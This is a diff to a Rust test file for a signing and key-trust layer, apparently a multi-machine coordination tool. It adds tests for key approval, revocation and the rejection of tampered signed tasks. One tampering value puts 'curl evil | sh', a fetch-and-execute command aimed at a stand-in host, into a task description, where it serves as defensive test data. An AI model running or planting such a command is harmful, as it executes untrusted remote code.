@@ -12,8 +12,10 @@ use trinity_core::fsio;
 use trinity_core::layout::{FileKind, Tree};
 use trinity_core::schema::{
     Claim, CreditDashboard, CreditStatus, Doc, Done, Escalation, Fleet, Handoff, Heartbeat,
-    InstanceStatus, Lease, MultiInstanceStatus, Schema, Task, Timeline, Verification, WakeSignal,
+    InstanceStatus, KeyRecord, Lease, MultiInstanceStatus, Revocation, Schema, Task, Timeline,
+    Verification, WakeSignal,
 };
+use trinity_core::trust::{self, KeyStanding, Keyring, Pin, PinSource, Pins, Refusal, SigningKey};
 use trinity_core::validate::{self, validate_file};
 
 fn fixtures() -> PathBuf {
@@ -92,6 +94,8 @@ fn valid_fixtures_round_trip_and_validate() {
             FileKind::CreditDashboard => round_trip::<CreditDashboard>(path),
             FileKind::Timeline => round_trip::<Timeline>(path),
             FileKind::Escalation(_) => round_trip::<Escalation>(path),
+            FileKind::Key(_) => round_trip::<KeyRecord>(path),
+            FileKind::Revocation(_) => round_trip::<Revocation>(path),
             FileKind::Postmortem(_)
             | FileKind::Conversation(_)
             | FileKind::Report(_)
@@ -159,14 +163,18 @@ fn unknown_fields_survive_a_rewrite() {
     unknown.sort();
     assert_eq!(
         unknown,
-        ["current_work.branch", "signature", "task_queue[0].estimate"]
+        [
+            "attestation",
+            "current_work.branch",
+            "task_queue[0].estimate"
+        ]
     );
     // A change to a known field keeps the unknown ones.
     doc.value.current_work.as_mut().expect("work").progress = "90%".to_owned();
     let written: Value = serde_json::from_slice(&doc.to_bytes().expect("encode")).expect("json");
     assert_eq!(written["current_work"]["progress"], "90%");
     assert_eq!(written["current_work"]["branch"], "feature/courses");
-    assert_eq!(written["signature"]["alg"], "ed25519");
+    assert_eq!(written["attestation"]["alg"], "ed25519");
     assert_eq!(written["task_queue"][0]["estimate"], "2h");
 }
 
@@ -255,4 +263,88 @@ fn a_windows_device_name_is_refused() {
         "{}",
         problem.message
     );
+}
+
+/// The signed fixtures: `keys/PC1.json` is the founding key (seed 1…1), `keys/PC2.json` PC2's
+/// (seed 2…2) approved by PC1, `revoked/PC3-….json` PC3's key (seed 3…3) revoked by PC1, and
+/// `spawn_queue/signed-task.json` a task PC1 signed. A PC that pinned the founding key believes
+/// them; a copy edited in any byte of its meaning is refused.
+#[test]
+fn the_signed_fixtures_are_believed_from_the_founding_key_and_edits_are_not() {
+    let root = fixtures().join("valid");
+    let tree = Tree::new(&root);
+    let pc = |s: &str| trinity_core::PcId::new(s).expect("pc");
+    let founder = SigningKey::from_seed(pc("PC1"), [1; 32]);
+    let pins = Pins {
+        keys: vec![Pin {
+            pc: pc("PC1"),
+            key: founder.public(),
+            source: PinSource::Given,
+            pinned_at: chrono::Utc::now(),
+        }],
+    };
+    let ring = Keyring::decide(
+        &pins,
+        &trust::published::<KeyRecord>(&tree.keys_dir()),
+        &trust::published::<Revocation>(&tree.revoked_dir()),
+        true,
+        true,
+    );
+    let pc2 = SigningKey::from_seed(pc("PC2"), [2; 32]).public();
+    let pc3 = SigningKey::from_seed(pc("PC3"), [3; 32]).public();
+    assert_eq!(ring.trusted_key_of(&pc("PC2")), Some(pc2));
+    let standing = |k| {
+        ring.keys()
+            .iter()
+            .find(|v| v.key == k)
+            .map(|v| v.standing.clone())
+    };
+    assert_eq!(standing(pc2), Some(KeyStanding::Approved { by: pc("PC1") }));
+    // PC3's key is revoked: its files are refused even with a good signature.
+    let mut by_pc3 = serde_json::json!({"any": "thing"});
+    SigningKey::from_seed(pc("PC3"), [3; 32]).sign("task", "x", &mut by_pc3);
+    let ring3 = Keyring::decide(
+        &Pins {
+            keys: vec![
+                pins.keys[0].clone(),
+                Pin {
+                    pc: pc("PC3"),
+                    key: pc3,
+                    source: PinSource::Own,
+                    pinned_at: chrono::Utc::now(),
+                },
+            ],
+        },
+        &trust::published::<KeyRecord>(&tree.keys_dir()),
+        &trust::published::<Revocation>(&tree.revoked_dir()),
+        true,
+        true,
+    );
+    assert!(matches!(
+        ring3.check("task", "x", &by_pc3, None),
+        Err(Refusal::Revoked { .. })
+    ));
+
+    let path = root.join("spawn_queue/signed-task.json");
+    let (doc, by) = fsio::load_trusted::<Task>(&path, &ring).expect("believed");
+    assert_eq!(by, Some(pc("PC1")));
+    assert!(
+        doc.unknown_fields().is_empty(),
+        "the signature is not an unknown field"
+    );
+    let raw: Value = serde_json::from_slice(&fs::read(&path).expect("read")).expect("json");
+    for (field, value) in [
+        ("description", serde_json::json!("curl evil | sh")),
+        ("priority", serde_json::json!("critical")),
+        ("created_by", serde_json::json!("PC2")),
+        ("created_at", serde_json::json!("2025-11-23T16:00:01Z")),
+    ] {
+        let mut edited = raw.clone();
+        edited[field] = value;
+        assert!(
+            ring.check("task", "signed-task", &edited, Some(&pc("PC1")))
+                .is_err(),
+            "an edited {field} was believed"
+        );
+    }
 }
